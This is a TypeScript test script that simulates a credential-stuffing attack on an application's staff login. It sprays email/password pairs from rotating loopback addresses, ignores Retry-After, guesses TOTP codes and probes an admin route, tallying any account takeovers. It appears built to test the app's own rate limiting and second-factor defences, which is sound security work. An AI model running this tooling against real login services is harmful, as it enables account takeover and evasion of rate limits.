import { readFileSync } from 'node:fs';
import { count, flags, numberFlag, required, sleep } from '../checkout/common.js';
import { agent, type Answer, call, CookieJar, outcome } from './http.js';
import type { Pair } from './seed.js';

/**
 * The credential-stuffing attacker: sends the list's (email, password) pairs at an even rate from
 * `--sources` addresses (127.1.0.1 and up, round robin, over `--prefixes` /24s), never honouring Retry-After. It keeps no
 * cookies between attempts; what one attempt is given (a partial session after a right password)
 * it uses: it sends made-up TOTP codes (`--totp-tries`), then asks `GET /api/auth/staff/me` and an
 * operator route whether that cookie opens anything. Stops at the end of the list or at
 * `--cap` seconds after the start, whichever comes first. Prints one JSON line (AttackResult).
 */
export interface AttackResult {
  listed: number;
  sent: number;
  unsent: number;
  seconds: number;
  /** Answers to the password step, by `status code`. */
  password: Record<string, number>;
  /** Answers to the second-factor step and to the probes with the cookie it was given. */
  secondFactor: Record<string, number>;
  probes: Record<string, number>;
  /** Right passwords: the second-factor step reached. */
  confirmed: number;
  confirmedAccounts: number;
  /** Right passwords among the pairs the server answered without a refusal. */
  realPairsSent: number;
  takeovers: { email: string; how: string }[];
  networkErrors: Record<string, number>;
  /** CPU this process used from the start of the attack. */
  cpuSeconds: number;
}

const f = flags(process.argv.slice(2));
const base = new URL(required(f, 'url'));
const list = JSON.parse(readFileSync(required(f, 'list'), 'utf8')) as Pair[];
const startAt = Number(required(f, 'start-at'));
const spreadMs = numberFlag(f, 'duration', 75) * 1000;
const capMs = numberFlag(f, 'cap', 100) * 1000;
const sources = Math.min(numberFlag(f, 'sources', 200), 254 * 16);
const totpTries = Math.min(numberFlag(f, 'totp-tries', 3), 20);
const maxInFlight = Math.min(numberFlag(f, 'in-flight', 256), 4096);
const via = agent(4);
/** Spread over `--prefixes` /24s (a botnet's many networks) or, by default, all in 127.1.0.0/24. */
const prefixes = Math.min(numberFlag(f, 'prefixes', 1), 254);
if (Math.ceil(sources / prefixes) > 254) throw new Error(`${sources} sources in ${prefixes} /24s need more than 254 a /24`);
const address = (k: number) => `127.1.${(k % sources) % prefixes}.${Math.floor((k % sources) / prefixes) + 1}`;

const result: AttackResult = {
  listed: list.length,
  sent: 0,
  unsent: 0,
  seconds: 0,
  password: {},
  secondFactor: {},
  probes: {},
  confirmed: 0,
  confirmedAccounts: 0,
  realPairsSent: 0,
  takeovers: [],
  networkErrors: {},
  cpuSeconds: 0,
};
const confirmedEmails = new Set<string>();

const signedIn = (a: Answer) => a.status === 200 && (a.body?.state === 'signed_in' || a.body?.state === 'enrol');

async function attempt(k: number, pair: Pair): Promise<void> {
  const from = address(k);
  const first = await call(via, base, from, 'POST', '/api/auth/staff/password', { payload: { email: pair.email, password: pair.password } });
  count(result.password, outcome(first));
  if (pair.real && first.status !== 429) result.realPairsSent++;
  if (first.status !== 200) return;
  // `enrol` would let it enrol its own second factor: as good as signed in.
  if (signedIn(first)) result.takeovers.push({ email: pair.email, how: `password step answered ${outcome(first)}` });
  result.confirmed++;
  confirmedEmails.add(pair.email);
  const jar = new CookieJar();
  jar.absorb(first.setCookies);
  for (let t = 0; t < totpTries; t++) {
    const totp = String(Math.floor(Math.random() * 1_000_000)).padStart(6, '0');
    const second = await call(via, base, from, 'POST', '/api/auth/staff/second-factor', { payload: { totp }, cookies: jar });
    count(result.secondFactor, outcome(second));
    jar.absorb(second.setCookies);
    if (signedIn(second)) {
      result.takeovers.push({ email: pair.email, how: `second factor answered ${outcome(second)} to a made-up code` });
      break;
    }
  }
  const me = await call(via, base, from, 'GET', '/api/auth/staff/me', { cookies: jar });
  count(result.probes, `/me ${me.status}${me.body?.state ? ` ${me.body.state}` : ''}`);
  if (me.status === 200 && me.body?.state === 'signed_in') result.takeovers.push({ email: pair.email, how: 'its cookie opened /api/auth/staff/me signed in' });
  const admin = await call(via, base, from, 'GET', '/api/admin/staff', { cookies: jar });
  count(result.probes, `/api/admin/staff ${outcome(admin)}`);
  // 401 (no session) and 429 (the operator class's limit) open nothing; 403 `forbidden` is a signed-in role without the permission.
  if (admin.status < 300 || (admin.status === 403 && admin.body?.error?.code === 'forbidden'))
    result.takeovers.push({ email: pair.email, how: `its cookie got ${outcome(admin)} from /api/admin/staff` });
}

await sleep(Math.max(0, startAt - Date.now()));
const cpu0 = process.cpuUsage();
const began = performance.now();
const capAt = began + capMs;
const interval = spreadMs / list.length;
let inFlight = 0;
let wake: (() => void) | undefined;
const running: Promise<void>[] = [];
for (let k = 0; k < list.length; k++) {
  const due = began + k * interval;
  if (due > performance.now()) await sleep(due - performance.now());
  while (inFlight >= maxInFlight && performance.now() < capAt) await new Promise<void>((r) => (wake = r));
  if (performance.now() >= capAt) {
    result.unsent = list.length - k;
    break;
  }
  inFlight++;
  result.sent++;
  running.push(
    attempt(k, list[k]!)
      .catch((e: Error) => count(result.networkErrors, e.message.slice(0, 60)))
      .finally(() => {
        inFlight--;
        wake?.();
      }),
  );
}
await Promise.race([Promise.all(running), sleep(Math.max(0, capAt - performance.now()) + 20_000)]);
result.seconds = (performance.now() - began) / 1000;
result.confirmedAccounts = confirmedEmails.size;
const cpu = process.cpuUsage(cpu0);
result.cpuSeconds = (cpu.user + cpu.system) / 1e6;
console.log(JSON.stringify(result));
process.exit(0);
